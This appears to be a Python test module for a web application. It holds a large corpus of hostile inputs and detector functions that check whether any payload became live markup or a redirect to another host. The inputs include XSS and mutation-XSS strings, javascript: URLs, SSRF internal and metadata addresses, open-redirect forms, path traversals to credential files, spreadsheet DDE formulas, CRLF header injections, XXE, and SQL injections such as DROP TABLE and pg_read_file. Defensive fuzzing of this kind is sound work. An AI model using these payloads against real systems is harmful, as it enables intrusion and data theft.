"""What hostile people type, upload and name: as data, and what shows that one of it came to life.

Everything in `MARKUP` and `ADDRESSES` that could become alive carries `MARK`, which stands nowhere else.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import unquote, urlsplit

import html5lib

MARK = "hx9"

MARKUP = (
    # Elements, plain and disguised.
    "<script>hx9()</script>",
    "<ScRiPt>hx9()</sCrIpT>",
    "<script src=//hx9.example/a.js></script>",
    "<script\x0csrc=//hx9.example></script\n>",
    "<img src=x onerror=hx9()>",
    "<img/src=x/onerror=hx9()//",
    "<svg onload=hx9()>",
    "<svg><script>hx9()</script></svg>",
    '<svg><a xlink:href="javascript:hx9()"><text y=20>x</text></a></svg>',
    '<svg><animate onbegin=hx9() attributeName=x dur=1s><set attributeName="href" to="javascript:hx9()"/></svg>',
    "<svg><foreignObject><body onload=hx9()></foreignObject></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:hx9()>x</maction></math>",
    "<iframe srcdoc='<script>hx9()</script>'></iframe>",
    "<iframe src=javascript:hx9()></iframe>",
    "<object data=data:text/html,<script>hx9()</script>></object>",
    "<embed src=javascript:hx9()>",
    "<form action=javascript:hx9()><button>x</button></form>",
    "<button formaction=javascript:hx9()>x</button>",
    "<input autofocus onfocus=hx9()>",
    "<details open ontoggle=hx9()>",
    "<video><source onerror=hx9()></video>",
    "<body onload=hx9()>",
    "<base href=//hx9.example/>",
    "<link rel=stylesheet href=//hx9.example/a.css>",
    "<meta http-equiv=refresh content='0;url=//hx9.example'>",
    "<style>@import '//hx9.example';</style>",
    "<div style=background:url(//hx9.example)>",
    "<a href=javascript:hx9()>x</a>",
    "<x-hx9 hx9=1>x</x-hx9>",
    "<marquee onstart=hx9()>x</marquee>",
    # Out of what stands around it.
    '"><img src=x onerror=hx9()>',
    "'><img src=x onerror=hx9()>",
    '" onmouseover="hx9()" x="',
    "' onmouseover='hx9()' x='",
    "` onmouseover=hx9() x=`",
    " autofocus onfocus=hx9() ",
    "</script><script>hx9()</script>",
    "</title><script>hx9()</script>",
    "</textarea><img src=x onerror=hx9()>",
    "</style><img src=x onerror=hx9()>",
    "</template><img src=x onerror=hx9()>",
    "</noscript><img src=x onerror=hx9()>",
    "]]><img src=x onerror=hx9()>",
    "?><img src=x onerror=hx9()><?",
    "<!--><img src=x onerror=hx9()>-->",
    "--><img src=x onerror=hx9()><!--",
    "--!><img src=x onerror=hx9()>",
    "<![CDATA[<x-hx9>]]>",
    '<!DOCTYPE x [<!ENTITY hx9 SYSTEM "file:///etc/passwd">]>&hx9;',
    # Only alive after somebody unescapes, decodes or parses once more.
    "&lt;script&gt;hx9()&lt;/script&gt;",
    "&#60;script&#62;hx9()&#60;/script&#62;",
    "&amp;lt;img src=x onerror=hx9()&amp;gt;",
    "%3Cscript%3Ehx9()%3C/script%3E",
    "\\u003cscript\\u003ehx9()\\u003c/script\\u003e",
    "\\x3cscript\\x3ehx9()\\x3c/script\\x3e",
    "\\';hx9();//",
    '\\";hx9();//',
    "\u2028hx9();\u2028",
    "${hx9()}",
    "＜script＞hx9()＜/script＞",
    "‹img onerror=hx9()›",
    "+ADw-script+AD4-hx9()+ADw-/script+AD4-",
    # Alive after one more round through a parser.
    "<noscript><p title='</noscript><img src=x onerror=hx9()>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hx9()&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=hx9()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hx9()>",
    "<listing>&lt;img src=x onerror=hx9()&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=hx9()>'>",
    # Templates of every house.
    "{{ 7|add:'hx9' }}{% debug %}{# hx9 #}",
    "{% load static %}{% include '/etc/passwd' %}",
    "{{constructor.constructor('hx9()')()}}",
    "<%= hx9() %>#{hx9()}*{hx9()}",
    # Typst, which reports are set in.
    '#read("/etc/passwd")#hx9',
    '"#sys.inputs"]#image("/etc/hx9.png")[',
    "```typ\n#hx9\n``` $ #hx9 $ @hx9 <hx9> *a* _b_ \\u{68}",
)

JAVASCRIPT = (
    "javascript:hx9()",
    "JaVaScRiPt:hx9()",
    " javascript:hx9()",
    "\x01javascript:hx9()",
    "java\tscript:hx9()",
    "java\nscript:hx9()",
    "javascript\r:hx9()",
    "javascript&colon;hx9()",
    "&#106;avascript:hx9()",
    "&#x6A&#x61vascript:hx9()",
    "javascript:/*--></title></style></textarea></script><svg/onload='/*`/*\"/**/hx9()//'>",
    "javascript://hx9.example/%0Ahx9()",
    "data:text/html,<script>hx9()</script>",
    "data:text/html;base64,PHNjcmlwdD5oeDkoKTwvc2NyaXB0Pg==#hx9",
    "data:image/svg+xml,<svg onload=hx9()>",
    "vbscript:hx9()",
    "feed:javascript:hx9()",
    "view-source:javascript:hx9()",
    "blob:https://hx9.example/x",
    "intent://hx9#Intent;scheme=javascript;end",
)
# What a check of addresses lets through, and a page may not take apart.
ADDRESSES = (
    'https://hx9.example/"><img/src=x/onerror=hx9()>',
    "https://hx9.example/'onmouseover='hx9()'",
    "https://hx9.example/?a=<script>hx9()</script>&b=%22%3E",
    "https://hx9.example/#javascript:hx9()",
    "https://hx9.example/`${hx9()}`{{7}}",
)

UNICODE = (
    "\u202ehx9\u202c gnp.exe",
    "\u2066hx9\u2069\u2067\u061c\u200f",
    "h\u200bx\u200c9\u200d\ufeff\u2060",
    "\ufeffhx9",
    "Z" + "\u0301\u0489\u20dd" * 60 + "hx9",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f4\U000e0067\U000e0062\U000e007f hx9",
    "\u0430\u0440\u0440l\u0435 ѕеlес ᏚᎬᏞᎬᏟ hx9",
    "ﬁ ﷺ ǆ ŉ İ ı ß ẞ Σς K hx9",
    "\x00hx9",
    "\x1b[31mhx9\x07\x08\x7f",
    "\x85\u2028\u2029hx9",
    "\ufffe\uffff\U0010ffffhx9",
    "\U000e0001\U000e0068\U000e0078hx9",
    "\u1160\u3164\uffa0\u00adhx9",
    "𝒽𝓍𝟫 ｈｘ９ ⓗⓧ⑨ hx9",
    "नि้กำ்ക്ഷ ﭏאַ hx9",
)
# No text at all: half a character.
SURROGATES = ("\ud800hx9", "hx9\udfff", "\udfff\ud800")
LONG = "hx9 " * 25_000

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://hx9.example/?"&A1,"x")',
    '=WEBSERVICE("https://hx9.example")',
    "+1+cmd|' /C calc'!A0",
    "-1+1|hx9",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=DDE("cmd";"/C calc";"hx9")',
    "＝1+1",
    "'=1+1",
    "%0A=1+1",
    ";=1+1",
    ",=1+1",
    '"=1+1',
    "|=1+1",
)

# Every way of writing an address of a machine behind us, or of what is no web server.
INSIDE_HOSTS = (
    *("127.0.0.1", "127.1", "127.0.1", "127.255.255.254", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1"),
    *("017700000001", "0x7f.1", "127.0.0.1.", "0", "0.0.0.0"),
    *("localhost", "LOCALHOST", "localhost.", "a.localhost"),
    *("[::1]", "[0:0:0:0:0:0:0:1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[::1%25lo]"),
    *("[64:ff9b::7f00:1]", "[64:ff9b:1::7f00:1]", "[2002:7f00:1::]", "[2001:0:7f00:1::]", "[fec0::1]", "[ff02::1]"),
    *("[fe80::1]", "[fe80::1%25eth0]", "[fc00::1]", "[fd00:ec2::254]"),
    *("10.0.0.8", "10.1", "172.16.0.1", "172.31.255.254", "192.168.0.1", "192.168.1", "100.64.0.1", "198.18.0.1"),
    *("192.0.0.192", "224.0.0.1", "240.0.0.1", "255.255.255.255", "0xa000008", "167772168"),
    *("169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[::ffff:a9fe:a9fe]"),
    *("①②⑦.⓪.⓪.①", "１２７.０.０.１", "127。0。0。1", "ⓛocalhost"),
    *("metadata.google.internal", "printer.local", "router.home.arpa", "desk.internal", "x.test", "x.invalid"),
)
ODD_URLS = (
    *("file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stat", "ftp://127.0.0.1/"),
    *("ldap://127.0.0.1/", "jar:https://127.0.0.1!/", "data:text/plain,x"),
    *("javascript:x", "//127.0.0.1/", "\\\\127.0.0.1"),
    *("https://outside.example@127.0.0.1/", "https://127.0.0.1#@outside.example/"),
    "https://127.0.0.1\\@outside.example/",
    "https://outside.example:443@127.0.0.1/",
    *("https://[::1]@outside.example@127.0.0.1/", "https:127.0.0.1", "https:///127.0.0.1"),
    "https://127.0.0.1:80\\.outside.example/",
    *("https://127.0.0.1%2f.outside.example/", "https://127.0.0.1%00.outside.example/"),
    *("https://127.0.0.1:99999/", "https://127.0.0.1:-1/", "https://[::1/"),
    *("https://]/", "https://%31%32%37.0.0.1/", "", " ", "\x00"),
    *("https://127.0.0.1\r\nHost: outside.example/", "https://127.0.0.1\t/", "https://outside.example:0@[::1]/"),
)  # fmt: skip

REDIRECTS = (
    *("//hx9.example", "///hx9.example", "////hx9.example/", "/\\hx9.example", "\\\\hx9.example", "\\/hx9.example"),
    *("https://hx9.example", "HTTPS:hx9.example", "https:/hx9.example", "http:///hx9.example", "/\t/hx9.example"),
    *("/\n/hx9.example", "\x00//hx9.example", "%2f%2fhx9.example", "/%2fhx9.example", "/%5chx9.example"),
    *("https://127.0.0.1:8000@hx9.example", "https://127.0.0.1:8000.hx9.example"),
    *("/..//hx9.example", "/.//hx9.example"),
    *("javascript:hx9()", "java\tscript:hx9()", "data:text/html,hx9"),
    *("//hx9。example", "https://hx9.example\\@127.0.0.1"),
    *("http://hx9.example:80%40127.0.0.1:8000/", "?next=//hx9.example"),
    *("//127.0.0.1:8000@hx9.example/", "〱hx9.example"),
)  # fmt: skip

TRAVERSALS = (
    *("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini"),
    *("/etc/passwd", "C:\\windows\\win.ini", "....//....//etc/passwd"),
    *("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd"),
    *("..%c0%af..%c0%afetc/passwd", "%00", "a%00.png"),
    *("..;/..;/etc/passwd", "\\\\hx9.example\\share"),
    *("file:///etc/passwd", "~root/.ssh/id_rsa", "/proc/self/environ"),
    *("images/../../credential-keys", ".", "..", "CON", "nul.txt", "a" * 300, ".htaccess", "a/./../b"),
)  # fmt: skip

HEADERS = (
    "hx9\r\nBcc: hx9@hx9.example",
    "hx9\nX-Hx9: 1",
    "hx9\r\n\r\n<script>hx9()</script>",
    "hx9\rSet-Cookie: hx9=1",
    "hx9%0d%0aSet-Cookie:%20hx9=1",
    "hx9\u560d\u560aSet-Cookie: hx9=1",
    "hx9\x0bX-Hx9: 1\x0c",
    "hx9\u2028X-Hx9: 1",
    '"hx9" <hx9@hx9.example>, x@hx9.example',
    "=?utf-8?q?=0D=0ABcc:hx9@hx9.example?=",
)

# Lines that an event of a calendar would be made of.
EVENTS = (
    "hx9\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nX-HX9:1",
    "hx9\nATTACH:file:///etc/passwd",
    "hx9\rX-HX9:1",
    "hx9\\nX-HX9:1",
    "hx9;X-HX9=1:2,3\\",
    "hx9\u2028X-HX9:1\x0b\x0c\x85X-HX9:1",
)

STATEMENTS = (
    "' OR '1'='1",
    "'; DROP TABLE social_publisher_post; --",
    '" OR ""="',
    "1; SELECT pg_sleep(10)--",
    "1 UNION SELECT NULL,version()--",
    "\\'; SELECT 1; --",
    "$$; SELECT 1; $$",
    "%' AND 1=1 AND '%'='",
    "a%_\\%",
    "a:*&!b|<->(",
    "x' || pg_read_file('/etc/passwd') || '",
    '{"$gt": ""}',
    "id)) OR 1=1/*",
    "ORDER BY 1;--",
)

NUMBERS = ("0", "-1", "1e9", "NaN", "Infinity", "9" * 19, "9" * 400, "0x10", "1.5", "١٢٣", "½", "1_000", " 1 ", "+1")
TIMES = ("0001-01-01", "9999-12-31T23:59:59Z", "2026-02-30", "2026-13-01", "10000-01-01", "24:61", "now", "1", "+1-1-1")

TYPED = (*MARKUP, *JAVASCRIPT, *ADDRESSES, *UNICODE, *FORMULAS, *HEADERS, *EVENTS, *STATEMENTS)
# What may stand anywhere in an address or a form.
ANYTHING = (*TYPED, *REDIRECTS, *TRAVERSALS, *NUMBERS, *TIMES, "", "[]", "{}", "null", "true", "-", "a" * 5_000)


def texts(values: tuple[str, ...] = TYPED) -> list[str]:
    """What a database can keep: text of whole characters without NUL."""
    return [value.replace("\0", "") for value in values]


# --- What shows that something of it is alive ------------------------------------------------------------------------

_HANDLER = re.compile(r"^on[a-z]+$")
_BEFORE_SCHEME = re.compile(r"[\x00-\x20]+")
_DEAD = re.compile(r"^(?:https?|mailto|tel|webcal|sms):|^data:image/(?:png|gif|jpeg|webp|avif);|^[^:]*$|^[^:]*[/?#]")
_LOADS = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "xlink:href", "to", "manifest"}
_EXECUTED = {"", "module", "text/javascript", "application/javascript", "importmap", "speculationrules"}


def alive(html: str) -> list[str]:
    """What of the corpus has become markup in a page: one line each, none for a page as it should be."""
    if MARK not in html:
        return []
    document = html5lib.HTMLParser(namespaceHTMLElements=False).parse(html)
    return [fault for element in document.iter() for fault in _faults(element)]


def _faults(element: Any) -> Iterator[str]:
    if not isinstance(element.tag, str):
        if MARK in (element.text or ""):
            yield f"in a comment: {(element.text or '')[:80]!r}"
        return
    tag = element.tag.rpartition("}")[2]
    if MARK in tag:
        yield f"the element {tag}"
    if tag in {"script", "style"} and MARK in (element.text or "") and (element.get("type") or "") in _EXECUTED:
        yield f"in {tag}: {_around(element.text)}"
    if tag == "meta" and element.get("http-equiv") and MARK in (element.get("content") or ""):
        yield f"meta {element.get('http-equiv')}: {element.get('content')!r}"
    for name, value in element.items():
        yield from _of_attribute(tag, name.rpartition("}")[2].lower(), str(value or ""))


def _of_attribute(tag: str, name: str, value: str) -> Iterator[str]:
    if MARK in name or not re.fullmatch(r"[\w:.@-]+", name):
        yield f"the attribute {tag}[{name[:60]}]"
    if name in _LOADS and is_alive_address(value):
        yield f"the address {tag}[{name}={value[:80]!r}]"
    if MARK not in value:
        return
    if _HANDLER.match(name) or name in {"style", "srcdoc", "srcset", "http-equiv", "integrity", "nonce"}:
        yield f"{tag}[{name}={_around(value)}]"
    # Nothing is loaded from, or sent to, an address of the corpus; links lead wherever people want.
    if name in _LOADS and tag not in {"a", "area", "blockquote", "q"} and _is_foreign(value):
        yield f"{tag}[{name}] leads to {value[:80]!r}"


def _is_foreign(value: str) -> bool:
    try:
        return MARK in (urlsplit(value).hostname or "")
    except ValueError:
        return True


def _around(text: str | None) -> str:
    words = text or ""
    place = words.find(MARK)
    return repr(words[max(0, place - 60) : place + 40])


def is_alive_address(value: str) -> bool:
    """Whether a browser that is led there runs something. It leaves out white space and controls, as browsers do."""
    bare = _BEFORE_SCHEME.sub("", value).lower()
    return bool(bare) and not _DEAD.match(bare)


def leads_out(location: str, host: str) -> bool:
    """Whether a browser that gets this `Location` leaves for another host than its own. WHATWG's reading: backslashes
    are slashes, tabs and line ends are nothing."""
    plain = re.sub(r"[\t\r\n]", "", location).strip("".join(map(chr, range(33)))).replace("\\", "/")
    if re.match(r"^(?:https?:)?/{2,}", plain, re.IGNORECASE):
        named = re.sub(r"^(?:https?:)?/+", "", plain, flags=re.IGNORECASE)
        return unquote(re.split(r"[/?#]", named)[0]).rpartition("@")[2].lower() != host.lower()
    return bool(re.match(r"^[a-z][a-z0-9+.-]*:", plain, re.IGNORECASE))
